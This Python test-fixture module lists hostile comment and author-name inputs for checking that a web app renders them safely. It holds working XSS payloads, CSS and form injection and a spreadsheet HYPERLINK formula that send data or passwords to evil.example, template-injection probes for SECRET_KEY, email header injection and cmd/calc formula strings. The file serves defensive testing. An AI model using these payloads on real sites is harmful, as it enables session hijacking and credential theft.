"""Hostile input, as data: what strangers may write in a comment or an author name.

Every case that tries to run code sets ``window.__pwned`` or opens a dialog, so the browser test
can tell whether anything ran. Bytes are what a broken platform response may hand us.
"""

from __future__ import annotations

from dataclasses import dataclass

PWN = "window.__pwned=1"


@dataclass(frozen=True)
class Case:
    name: str
    text: str | bytes
    author: str = ""  # a hostile author name too, where it makes sense

    @property
    def as_text(self) -> str:
        return self.text.decode("utf-8", "replace") if isinstance(self.text, bytes) else self.text


ONE_MEGABYTE_WORD = "A" * 1_000_000
ONE_MEGABYTE_TEXT = ("Wanneer gaat het zwembad open? " * 35_000)[:1_000_000]

CASES: list[Case] = [
    Case("script_tag", f"<script>{PWN};alert('xss')</script>", author=f"<script>{PWN}</script>"),
    Case(
        "script_uppercase_split", f"<SCRIPT SRC=//evil.example/x.js></SCRIPT><scr<script>ipt>{PWN}</script>"
    ),
    Case("img_onerror", f'<img src=x onerror="{PWN};alert(1)">', author=f'<img src=x onerror="{PWN}">'),
    Case("svg_onload", f'<svg onload="{PWN}"><script>{PWN}</script><animate onbegin="{PWN}"/></svg>'),
    Case("svg_use_data", f'<svg><use href="data:image/svg+xml,<svg id=x onload={PWN}>#x"/></svg>'),
    Case("iframe_srcdoc", f'<iframe srcdoc="<script>parent.{PWN}</script>"></iframe>'),
    Case("javascript_link", f'<a href="javascript:{PWN}">klik hier</a> javascript:{PWN}'),
    Case(
        "javascript_obfuscated", f'<a href="jav&#x09;ascript:{PWN}">x</a> <a href=" JaVaScRiPt:{PWN}">y</a>'
    ),
    Case("markdown_link", f"[klik](javascript:{PWN}) ![x](data:text/html,<script>{PWN}</script>)"),
    Case("attribute_breakout_double", f'" onmouseover="{PWN}" autofocus onfocus="{PWN}" x="'),
    Case("attribute_breakout_single", f"' onmouseover='{PWN}' autofocus onfocus='{PWN}' x='"),
    Case("tag_breakout", f'"></textarea></title></script><script>{PWN}</script>'),
    Case(
        "htmx_attributes",
        f'<div hx-get="/accounts/logout/" hx-trigger="load" hx-on:htmx:load="{PWN}">htmx</div>',
    ),
    Case(
        "css_injection",
        "<style>body{display:none} *{background:url(//evil.example/leak)}</style>"
        '<div style="position:fixed;inset:0;z-index:9999;background:red">over alles</div>',
    ),
    Case(
        "meta_refresh_base",
        '<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">',
    ),
    Case(
        "form_injection",
        '<form action="https://evil.example/steal" method="post"><input name="password"></form>',
    ),
    Case(
        "template_syntax",
        "{{ request.user.password }} {% debug %} {% load static %} {{7*7}} ${7*7} #{7*7} <%= 7*7 %>",
        author="{{ settings.SECRET_KEY }}",
    ),
    Case(
        "bidi_override",
        "Mooi werk \u202egnineerG\u202c en \u2066\u2067omgekeerd\u2069\u2069 \u200f.gpj\u202eexe.",
        author="\u202eredeeb\u202c",
    ),
    Case("zero_width", "ge\u200bmeen\u200c\u200d\u2060te\ufeff bestuur", author="Jan\u200b\u200bPeeters"),
    Case(
        "emoji_sequences", "👨‍👩‍👧‍👦 🇧🇪 👍🏽 🏳️‍🌈 🧑🏿‍🤝‍🧑🏻 Z̷̧̛͎a̶l̵g̴o̸ " + "\U0001f600" * 500, author="🇧🇪 Jan 👍🏽"
    ),
    Case(
        "control_characters",
        "a\x00b\x07c\x1b[31mrood\x1b[0m\x7f\x85\r\nnieuwe regel\u2028\u2029",
        author="Jan\u2029Peeters\u2028\x85\r",
    ),
    Case(
        "header_injection",
        "Onderwerp\r\nBcc: evil@example.org\r\n\r\nnieuwe body",
        author="Jan\r\nBcc: evil@example.org",
    ),
    Case("formula_injection", '=HYPERLINK("https://evil.example/?"&A1,"klik")', author="=cmd|' /C calc'!A0"),
    Case("formula_plus", "+1+1", author="+32 470 12 34 56"),
    Case("formula_at", "@SUM(1+1)*cmd|' /C calc'!A0", author="@SUM(A1:A9)"),
    Case("formula_tab", "\t=1+1", author="-2+3"),
    Case(
        "invalid_utf8",
        b"caf\xc3 \xff\xfe\xed\xa0\x80 <script>" + PWN.encode() + b"</script> \xc0\xaf einde",
        author="Jos\xe9",
    ),
    Case("lone_surrogate", "vóór \ud800 na \udfff"),
    Case("one_megabyte_word", ONE_MEGABYTE_WORD),
    Case("one_megabyte_text", ONE_MEGABYTE_TEXT),
    Case("long_author_name", "kort", author="B" * 5000),
]

BY_NAME = {case.name: case for case in CASES}
assert len(BY_NAME) == len(CASES), "case names must be unique"
